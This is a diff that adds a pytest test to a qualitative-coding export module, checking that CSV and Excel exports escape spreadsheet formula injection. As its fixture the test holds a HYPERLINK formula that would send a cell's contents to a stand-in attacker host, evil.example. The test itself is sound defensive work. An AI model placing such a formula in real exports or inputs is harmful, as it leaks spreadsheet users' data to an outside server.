@@ -139,3 +139,23 @@ def test_an_empty_round_exports_headers_only():
     assert frame.empty and "respect" in frame.columns
     with pytest.raises(ValueError):
         coding_export.wide(d, "other")
+
+
+def test_names_in_the_exports_are_never_formulas():
+    import csv
+    import dataclasses
+
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rd = dataclasses.replace(
+        data(), round_name=evil, codes=[CodeInfo("respect", "+Respect"), data().codes[1]]
+    )
+    for raw in (coding_export.long_csv(rd, "codings"), coding_export.dictionary_csv(rd, "final")):
+        cells = [c for row in csv.reader(io.StringIO(raw.decode())) for c in row]
+        assert not any(c[:1] in "=+-@" for c in cells if c)
+        assert "'" + evil in cells or "'+Respect" in cells
+    book = load_workbook(io.BytesIO(coding_export.to_xlsx(rd)))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    assert evil in [c.value for c in cells]
